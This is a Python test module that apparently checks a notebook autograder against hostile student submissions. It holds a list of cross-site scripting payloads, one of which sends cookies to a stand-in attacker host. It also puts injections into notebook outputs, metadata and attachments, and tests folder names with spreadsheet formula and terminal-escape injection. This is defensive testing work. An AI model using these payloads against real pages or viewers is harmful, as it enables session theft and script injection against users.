"""Pages that attack who reads them, and names that attack what is made of them: rows 20 and 29."""

from __future__ import annotations

from attacks.attack import Work, attack

HOSTILE = [
    "<script>fetch('https://evil.example/' + document.cookie)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x">',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><script>alert(1)</script><use href='data:image/svg+xml,x#y'/></svg>",
    "<iframe src='https://evil.example' srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a> <a href='jAvA\tscript:alert(1)'>y</a>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b.png) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password>"
    "<button formaction='javascript:alert(1)'>go</button></form>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/c.png)'>Score: 15 / 15</div>",
    "<video poster=https://evil.example/p.png><source src=https://evil.example/v onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "</pre></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
]
ALL = "\n".join(HOSTILE)
MARKDOWN = [
    "[x](javascript:alert(1)) ![x](https://evil.example/pixel.png) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x] ![y][y]\n\n[y]: https://evil.example/pixel.png",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode{<script>alert(1)</script>}$$ $</script><script>alert(1)</script>$",
    "![a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "```html\n</code></pre><script>alert(1)</script>\n```",
]


@attack(20)
def html_displayed(work: Work) -> None:
    work.add(f"from IPython.display import display, HTML\nfor text in {HOSTILE!r}: display(HTML(text))")


@attack(20)
def html_in_markdown_cells(work: Work) -> None:
    for text in [*HOSTILE, *MARKDOWN]:
        work.add(text, kind="markdown")


@attack(20)
def html_in_the_essay(work: Work) -> None:
    work.answer("why_cross_entropy", "\n\n".join([*HOSTILE, *MARKDOWN]))


@attack(20)
def html_in_raw_cells(work: Work) -> None:
    for text in HOSTILE:
        work.add(text, kind="raw")
        work.notebook["cells"][work.notebook["cells"].index(work.cell("recall_and_precision-prompt")) - 1]["metadata"] = {
            "format": "text/html", "raw_mimetype": "text/html",
        }  # fmt: skip


@attack(20)
def html_in_code_and_printed(work: Work) -> None:
    work.add("# " + "\n# ".join(ALL.splitlines()) + f"\nprint({ALL!r})\nimport sys\nprint({ALL!r}, file=sys.stderr)")


@attack(20)
def html_in_errors(work: Work) -> None:
    work.add(f"raise ValueError({ALL!r})")
    work.add(
        f"raise type({HOSTILE[0]!r}, (Exception,), {{}})"
        "('\\x1b[31m<img src=x onerror=alert(1)>\\x1b]8;;javascript:alert(1)\\x07')"
    )


@attack(20)
def html_in_every_mime_type(work: Work) -> None:
    types = [
        "text/html", "image/svg+xml", "text/markdown", "text/latex", "application/javascript", "application/json",
        "text/plain", "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "application/pdf",
        "application/x-html", "image/png", 'text/html"><script>alert(1)</script>', "application/vnd.mermaid",
    ]  # fmt: skip
    work.add(
        f"from IPython.display import display\ntext = {ALL!r}\nfor kind in {types!r}:\n"
        "    display({kind: text}, raw=True)\n"
        "    display({kind: {'a': text}}, raw=True, metadata={kind: {'width': text, 'isolated': True}})"
    )


@attack(20)
def scripts_and_widgets(work: Work) -> None:
    work.add(
        "from IPython.display import display, Javascript, IFrame, SVG, Markdown, Latex, Video\n"
        "display(Javascript('alert(1)', lib=['https://evil.example/x.js']), IFrame('https://evil.example', 9, 9),\n"
        '        SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>\'),\n'
        "        Markdown('<script>alert(1)</script>[x](javascript:alert(1))'),\n"
        "        Latex('$\\\\href{javascript:alert(1)}{x}$'),\n"
        "        Video('https://evil.example/v.mp4'))\n%%javascript"
    )
    work.add("%%html\n<script>alert(1)</script><img src=x onerror=alert(1)>")


@attack(20)
def attachments_and_metadata(work: Work) -> None:
    work.add("![x](attachment:a.png) ![y](attachment:b.svg)", kind="markdown")
    cell = work.notebook["cells"][work.notebook["cells"].index(work.cell("recall_and_precision-prompt")) - 1]
    cell["attachments"] = {
        "a.png": {"image/png": '"><script>alert(1)</script>', 'image/x" onerror="alert(1)': "eA=="},
        "b.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"},
        'c"><script>alert(1)</script>': {"image/png": "eA=="},
    }
    work.notebook["metadata"] |= {"title": HOSTILE[0], "language_info": {"name": '"><script>alert(1)</script>'}}
    for each in work.notebook["cells"]:
        each["id"] = '"><script>alert(1)</script>' if each["cell_type"] == "raw" else each["id"]


@attack(20, exactly=False, problem="")
def html_in_the_stated_problem(work: Work) -> None:
    """What the grader says quotes the cell that began so."""
    work.add("'<script>alert(1)</script>'; import os; os._exit(1)")


@attack(20)
def outputs_handed_in(work: Work) -> None:
    """Outputs that the student saved, never run: they are not passed on."""
    for cell in work.notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "data": {"text/html": ALL, "image/svg+xml": ALL}, "metadata": {}},
                {"output_type": "execute_result", "data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1},
            ]


def student(number: int, folder: str, recordable: bool = False) -> None:
    """A right submission from someone of an odd name: refused as no student id, or harmless in every page."""

    def make(work: Work) -> None:
        """Nothing but the name is odd."""

    make.__name__ = f"student_of_an_odd_name_{number}"
    refused = {} if recordable else {"loses_all": True, "problem": "no student id"}
    globals()[make.__name__] = attack(29, student=folder, **refused)(make)


for _number, _folder in enumerate(
    ["=cmd()", "@SUM(1+1)*cmd", "-2+3", '"><b>', "<script>alert(1)<", "[bold red]x[", "r29\x1b[2Jx", "r29\nline"]
):
    student(_number, _folder)
student(90, "r29 x.y@example.edu+tag", recordable=True)
